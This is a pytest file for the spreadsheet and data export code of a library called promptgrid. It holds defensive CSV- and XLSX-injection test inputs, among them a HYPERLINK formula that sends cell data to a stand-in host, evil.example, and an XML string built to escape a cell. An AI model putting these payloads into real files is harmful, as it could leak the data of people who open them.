"""Exported files: XLSX text stays text, JSONL is strict, one failed format spares the others,
temp files are unique and never outlive their process."""

from __future__ import annotations

import errno
import gc
import json
import os
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

import promptgrid
from promptgrid import errors
from promptgrid.errors import ExportFailed, StoreError
from promptgrid.exports import export, formats_present
from promptgrid.exports._atomic import temp_path
from promptgrid.exports.jsonl import JsonlWriter
from promptgrid.exports.xlsx import CUT_MARK, MAX_CELL, XlsxWriter, cell_text
from promptgrid.store import RunInfo, Store
from promptgrid.table import resolve_run

ALL = "parquet,csv,xlsx,jsonl"
TRICKY = [
    "=1+1",
    '=HYPERLINK("http://example.com","click")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "#N/A",
    "a\x1bb",
    "\x00",
    "bell\x07 tab\t newline\n",
    "\ufffe",
]


def experiment(values: list[Any], name: str = "tricky") -> dict[str, Any]:
    """An echo experiment with one var; the prompt is the value itself."""
    return {
        "name": name,
        "provider": "echo",
        "prompts": {"p": "{{ v }}"},
        "vars": {"v": values},
        "params": {"model": "m"},
    }


def run_dir(results: Path, df: Any) -> Path:
    """The folder of the run of ``experiment(...)`` that made ``df``."""
    return results / "tricky" / str(df["run_id"][0])


def sheet_rows(path: Path) -> list[list[Any]]:
    """Every cell of the results sheet (value and data type)."""
    book = load_workbook(path)
    try:
        return [[(c.value, c.data_type) for c in row] for row in book["results"].iter_rows()]
    finally:
        book.close()


def no_nan(constant: str) -> Any:
    raise AssertionError(f"JSONL holds the non-JSON constant {constant}")


def temp_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


@pytest.fixture
def finished(tmp_path: Path) -> Iterator[tuple[Store, RunInfo, Path]]:
    """A finished run (CSV only) and its store, for calling export directly."""
    results = tmp_path / "r"
    df = promptgrid.run(experiment(["x", "y", "z"], "plain"), results_dir=results,
                        provider="echo", formats="csv", progress=False)  # fmt: skip
    with Store.in_dir(results, readonly=True) as store:
        run = resolve_run(store, str(df["run_id"][0]))
        yield store, run, results / "plain" / run.run_id


# --------------------------------------------------------------------------- XLSX


def test_xlsx_keeps_formula_looking_text_as_text(tmp_path: Path) -> None:
    df = promptgrid.run(experiment(TRICKY), results_dir=tmp_path, formats=ALL, progress=False)
    folder = run_dir(tmp_path, df)
    assert sorted(p.name for p in folder.iterdir()) == [
        "results.csv", "results.jsonl", "results.parquet", "results.xlsx",
    ]  # fmt: skip
    rows = sheet_rows(folder / "results.xlsx")
    header = [value for value, _ in rows[0]]
    v, response = header.index("v"), header.index("response")
    for value in ("=1+1", '=HYPERLINK("http://example.com","click")', "+1+1", "-2", "#N/A"):
        [row] = [r for r in rows[1:] if r[v][0] == value]
        assert row[v] == (value, "s")
        assert row[response] == (f"echo: {value}", "s")
    assert all(dtype != "f" for row in rows for _, dtype in row)


def test_xlsx_escapes_control_characters_and_other_formats_keep_them(tmp_path: Path) -> None:
    df = promptgrid.run(experiment(TRICKY), results_dir=tmp_path, formats=ALL, progress=False)
    folder = run_dir(tmp_path, df)
    rows = sheet_rows(folder / "results.xlsx")
    v = [value for value, _ in rows[0]].index("v")
    shown = [row[v][0] for row in rows[1:]]
    assert "a\\x1bb" in shown and "\\x00" in shown and "\\ufffe" in shown
    assert "bell\\x07 tab\t newline\n" in shown  # tab and newline are fine in a cell
    parquet = pq.read_table(folder / "results.parquet").column("v").to_pylist()
    assert parquet == TRICKY
    lines = (folder / "results.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["v"] for line in lines] == TRICKY


def test_xlsx_text_shaped_like_rich_text_xml_stays_text(tmp_path: Path) -> None:
    # xlsxwriter writes a string that starts with <r> and ends with </r> into the sheet's XML
    # as it is (its rich strings): an answer shaped so could end its cell and add a formula.
    injected = (
        '<r><t>a</t></r></is></c><c r="Z1"><f>1+1</f></c><c t="inlineStr"><is><r><t>b</t></r>'
    )
    df = promptgrid.run(experiment([injected, "<r>x</r>"]), results_dir=tmp_path,
                        formats="xlsx", progress=False)  # fmt: skip
    rows = sheet_rows(run_dir(tmp_path, df) / "results.xlsx")
    v = [value for value, _ in rows[0]].index("v")
    assert [row[v] for row in rows[1:]] == [(injected + " ", "s"), ("<r>x</r> ", "s")]
    assert all(dtype != "f" for row in rows for _, dtype in row)
    assert len(rows[0]) == len(rows[1])  # no cell beyond the last column


def test_xlsx_headers_from_a_cases_file_are_made_safe_too(tmp_path: Path) -> None:
    # A cases file names its own columns: the names reach the header cells of every sheet.
    odd = ["a\x1bb", "<r>z</r>"]
    cases = [{"q": q, odd[0]: "x" + q, odd[1]: "y" + q} for q in ("1", "2")]
    exp = {**experiment([]), "prompts": {"p": "hi {{ q }}"}, "vars": {}, "cases": cases}
    df = promptgrid.run(exp, results_dir=tmp_path, formats="xlsx", progress=False)
    book = load_workbook(run_dir(tmp_path, df) / "results.xlsx")
    try:
        for sheet in ("results", "compare"):
            names = [c.value for c in book[sheet][1]]
            assert "a\\x1bb" in names and "<r>z</r> " in names, sheet
    finally:
        book.close()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("plain", "plain", id="unchanged"),
        pytest.param("a\x1b[31mred\x1b[0m", "a\\x1b[31mred\\x1b[0m", id="ansi-colour"),
        pytest.param("\x00\x08\x0b\x0c\x0e\x1f", "\\x00\\x08\\x0b\\x0c\\x0e\\x1f", id="controls"),
        pytest.param("\t\n\r", "\t\n\r", id="whitespace-kept"),
        pytest.param("\ufffe\uffff", "\\ufffe\\uffff", id="xml-non-characters"),
        pytest.param("<r>x</r>", "<r>x</r> ", id="rich-text-shaped"),
        pytest.param("<r>x", "<r>x", id="half-rich-text-unchanged"),
    ],
)
def test_cell_text_escapes_what_xlsx_cannot_hold(text: str, expected: str) -> None:
    assert cell_text(text) == expected


def test_long_cells_are_cut_with_a_marker(tmp_path: Path) -> None:
    long_text, emoji = "x" * 40_000, "😀" * 20_000  # 40,000 UTF-16 units each
    df = promptgrid.run(experiment([long_text, emoji, "short"]), results_dir=tmp_path,
                        formats="xlsx,parquet", progress=False)  # fmt: skip
    folder = run_dir(tmp_path, df)
    rows = sheet_rows(folder / "results.xlsx")
    v = [value for value, _ in rows[0]].index("v")
    cut, cut_emoji, short = (row[v][0] for row in rows[1:])
    assert cut == "x" * (MAX_CELL - len(CUT_MARK)) + CUT_MARK and len(cut) == MAX_CELL
    assert cut_emoji.endswith(CUT_MARK) and len(cut_emoji.encode("utf-16-le")) // 2 <= MAX_CELL
    assert cut_emoji[: -len(CUT_MARK)] == "😀" * len(cut_emoji[: -len(CUT_MARK)])  # no half pair
    assert short == "short"
    assert pq.read_table(folder / "results.parquet").column("v").to_pylist()[0] == long_text


def test_cut_happens_after_escaping() -> None:
    text = cell_text("\x1b" * 10_000)  # 40,000 characters once escaped
    assert len(text) == MAX_CELL and text.endswith(CUT_MARK)


# --------------------------------------------------------------------------- CSV

#: Text a spreadsheet would evaluate if a CSV cell held it as written (OWASP's CSV injection).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2&B2,"Click")', "=1+1", "+1+A1", "-2+A1",
            "@SUM(A1)", "\t=1+1", "\r=1+1"]  # fmt: skip


def csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_csv_writes_formulas_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    values = [*FORMULAS, "-2", "+1.5e3", "a=b", "plain"]
    df = promptgrid.run(experiment(values), results_dir=tmp_path, formats="csv,parquet",
                        progress=False)  # fmt: skip
    folder = run_dir(tmp_path, df)
    rows = csv_rows(folder / "results.csv")
    assert [r["v"] for r in rows] == [*("'" + f for f in FORMULAS), "-2", "+1.5e3", "a=b", "plain"]
    assert [r["response"] for r in rows] == [f"echo: {v}" for v in values]  # no formula there
    assert pq.read_table(folder / "results.parquet").column("v").to_pylist() == values


def test_csv_keeps_negative_numbers_in_numeric_columns(tmp_path: Path) -> None:
    df = promptgrid.run(experiment([-1, -2.5]), results_dir=tmp_path, formats="csv",
                        progress=False)  # fmt: skip
    rows = csv_rows(run_dir(tmp_path, df) / "results.csv")
    assert [r["v"] for r in rows] == ["-1", "-2.5"]


def test_a_formula_in_a_header_is_text_too(tmp_path: Path) -> None:
    spec = {**experiment(["x"]), "vars": {}, "cases": [{"=cmd": "y", "v": "x"}]}
    df = promptgrid.run(spec, results_dir=tmp_path, formats="csv", progress=False)
    header = (run_dir(tmp_path, df) / "results.csv").read_text(encoding="utf-8").splitlines()[0]
    assert '"\'=cmd"' in header or "'=cmd" in header


def test_export_csv_verbatim_writes_the_text_as_stored(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from promptgrid.cli import main

    df = promptgrid.run(experiment(FORMULAS), results_dir=tmp_path, formats="csv",
                        progress=False)  # fmt: skip
    target = tmp_path / "raw.csv"
    main(["export", "--results-dir", str(tmp_path), "--format", "csv", "--csv-verbatim",
          "-o", str(target)])  # fmt: skip
    assert capsys.readouterr().out.strip() == str(target)
    assert [r["v"] for r in csv_rows(target)] == FORMULAS
    first = csv_rows(run_dir(tmp_path, df) / "results.csv")[0]
    assert first["v"] == "'" + FORMULAS[0]


# --------------------------------------------------------------------------- JSONL


def test_jsonl_is_strict_json(tmp_path: Path) -> None:
    values = [float("nan"), float("inf"), float("-inf"), 1.5]
    df = promptgrid.run(experiment(values), results_dir=tmp_path, formats="jsonl,xlsx",
                        progress=False)  # fmt: skip
    folder = run_dir(tmp_path, df)
    lines = (folder / "results.jsonl").read_text(encoding="utf-8").splitlines()
    records = [json.loads(line, parse_constant=no_nan) for line in lines]
    assert [r["v"] for r in records] == [None, None, None, 1.5]
    rows = sheet_rows(folder / "results.xlsx")
    v = [value for value, _ in rows[0]].index("v")
    assert [row[v][0] for row in rows[1:]] == [None, "inf", "-inf", 1.5]


# --------------------------------------------------------------------------- failures


def test_disk_full_in_one_format_writes_the_others(
    finished: tuple[Store, RunInfo, Path],
) -> None:
    store, run, folder = finished
    full = OSError(errno.ENOSPC, "No space left on device")
    with mock.patch.object(JsonlWriter, "write", side_effect=full), \
            pytest.raises(ExportFailed) as caught:  # fmt: skip
        export(store, run, folder, ["parquet", "jsonl", "xlsx"])
    failure = caught.value
    assert isinstance(failure, StoreError) and failure.exit_code == errors.ExitCode.STORE
    assert list(failure.failed) == ["jsonl"] and "full" in failure.failed["jsonl"]
    assert failure.written == [folder / "results.parquet", folder / "results.xlsx"]
    message = str(failure)
    assert "jsonl" in message and "free some space" in message
    assert f"promptgrid export {run.run_id}" in message and "--format jsonl" in message
    assert (folder / "results.parquet").is_file() and (folder / "results.xlsx").is_file()
    assert not (folder / "results.jsonl").exists() and temp_files(folder) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (Linux)")
def test_a_full_disk_fails_the_xlsx_alone_and_leaves_no_temp_file(
    finished: tuple[Store, RunInfo, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, run, folder = finished
    scratch = tmp_path / "scratch"  # the system temp folder, where the sheets' files go
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))

    def on_a_full_disk(path: Path) -> Path:
        tmp = temp_path(path)
        if path.suffix == ".xlsx":
            tmp.symlink_to("/dev/full")  # every write fails: "No space left on device"
        return tmp

    monkeypatch.setattr("promptgrid.exports.temp_path", on_a_full_disk)
    with pytest.raises(ExportFailed) as caught:
        export(store, run, folder, ["xlsx", "jsonl"])
    assert list(caught.value.failed) == ["xlsx"] and "full" in caught.value.failed["xlsx"]
    assert (folder / "results.jsonl").is_file() and not (folder / "results.xlsx").exists()
    del caught
    gc.collect()  # what the failed save left open is closed now: no second failure
    assert temp_files(folder) == [] and list(scratch.iterdir()) == []


def test_a_read_only_folder_is_named_with_what_to_do(
    finished: tuple[Store, RunInfo, Path],
) -> None:
    store, run, folder = finished
    denied = PermissionError(errno.EACCES, "Permission denied")
    with mock.patch.object(XlsxWriter, "__init__", side_effect=denied), \
            pytest.raises(ExportFailed) as caught:  # fmt: skip
        export(store, run, folder / "book.xlsx", ["xlsx"])
    assert caught.value.written == []
    assert "cannot be written" in caught.value.failed["xlsx"]
    assert f"-o {folder / 'book.xlsx'}" in str(caught.value)


def test_a_bug_in_one_writer_spares_the_others(finished: tuple[Store, RunInfo, Path]) -> None:
    store, run, folder = finished
    kept: list[Any] = []
    with mock.patch.object(XlsxWriter, "write", side_effect=ValueError("boom")), \
            pytest.raises(ExportFailed) as caught:  # fmt: skip
        export(store, run, folder, ["xlsx", "csv"], kept)
    assert caught.value.failed == {
        "xlsx": "ValueError: boom (a bug in promptgrid: please report it)"
    }
    assert caught.value.written == [folder / "results.csv"]
    assert sum(t.num_rows for t in kept) == 3  # the caller still gets the table
    assert not (folder / "results.xlsx").exists() and temp_files(folder) == []


def test_a_store_failure_leaves_no_file_half_written(
    finished: tuple[Store, RunInfo, Path],
) -> None:
    store, run, folder = finished
    (folder / "results.csv").unlink()

    def broken(*_: Any) -> Iterator[Any]:
        raise StoreError("the store went away")
        yield

    with mock.patch("promptgrid.exports.batches", broken), pytest.raises(StoreError):
        export(store, run, folder, ["csv", "xlsx", "parquet"])
    assert list(folder.iterdir()) == []


def test_export_failed_is_in_the_exception_tree() -> None:
    assert "ExportFailed" in errors.__all__ and issubclass(ExportFailed, StoreError)
    assert "└── ExportFailed" in (errors.__doc__ or "")


# --------------------------------------------------------------------------- temp files


def test_two_exports_of_one_run_at_once_both_succeed(
    finished: tuple[Store, RunInfo, Path],
) -> None:
    _, run, folder = finished
    both_open = threading.Barrier(2, timeout=60)
    real_batches = promptgrid.exports.batches

    def meeting(store: Store, info: RunInfo) -> Iterator[Any]:
        both_open.wait()  # both exports have their temp files open before either renames
        yield from real_batches(store, info)

    results: dict[int, list[Path]] = {}
    failures: list[BaseException] = []

    def one(n: int) -> None:
        try:
            with Store.in_dir(folder.parent.parent, readonly=True) as store:
                results[n] = export(store, run, folder, ["parquet", "jsonl", "xlsx"])
        except BaseException as exc:
            failures.append(exc)
            both_open.abort()

    with mock.patch("promptgrid.exports.batches", meeting):
        threads = [threading.Thread(target=one, args=(n,)) for n in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert failures == []
    assert results[0] == results[1] == [
        folder / "results.parquet", folder / "results.jsonl", folder / "results.xlsx",
    ]  # fmt: skip
    assert temp_files(folder) == []
    assert pq.read_table(folder / "results.parquet").num_rows == 3
    assert len((folder / "results.jsonl").read_text().splitlines()) == 3
    assert len(sheet_rows(folder / "results.xlsx")) == 4


@pytest.mark.slow
def test_temp_files_of_dead_processes_are_removed(finished: tuple[Store, RunInfo, Path]) -> None:
    store, run, folder = finished
    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)  # fmt: skip
    dead = temp_path(folder / "results.xlsx", pid=int(gone.stdout))
    mine = temp_path(folder / "results.xlsx", pid=os.getpid())
    elsewhere = dead.with_name(dead.name.replace(f"@{dead.name.split('@')[1]}", "@elsewhere.tmp"))
    unrelated = folder / ".results.xlsx.notes.tmp"
    for path in (dead, mine, elsewhere, unrelated):
        path.write_text("partial")
    assert dead.name.startswith(".results.xlsx.") and dead.name.endswith(".tmp")
    export(store, run, folder, ["csv"])
    assert not dead.exists()
    assert mine.exists() and elsewhere.exists() and unrelated.exists()


# --------------------------------------------------------------------------- rewrites


def test_formats_present_lists_the_result_files(tmp_path: Path) -> None:
    for name in ("results.xlsx", "results.csv", "notes.txt", "results.xlsx.bak"):
        (tmp_path / name).write_text("")
    (tmp_path / "results.jsonl").mkdir()
    assert formats_present(tmp_path) == ("csv", "xlsx")
    assert formats_present(tmp_path / "missing") == ()


def test_retry_rewrites_an_xlsx_exported_into_the_run_folder(
    finished: tuple[Store, RunInfo, Path],
) -> None:
    _, run, folder = finished
    (folder / "results.xlsx").write_text("stale, from an earlier export")
    df = promptgrid.retry(run.run_id, results_dir=folder.parent.parent, progress=False)
    assert len(sheet_rows(folder / "results.xlsx")) == len(df) + 1
    assert formats_present(folder) == ("csv", "xlsx")


def test_prefetch_imports_what_the_export_and_the_frame_need() -> None:
    from promptgrid.exports.prefetch import prefetch

    thread = prefetch(["parquet", "csv"], frame=True)
    if thread is not None:  # (None: this process had them all already)
        thread.join(timeout=120)
    needed = ("pyarrow.json", "pyarrow.parquet", "pyarrow.csv", "pyarrow.compute", "pandas")
    assert all(name in sys.modules for name in needed)
    assert prefetch(["parquet", "csv"], frame=True) is None  # nothing left to import
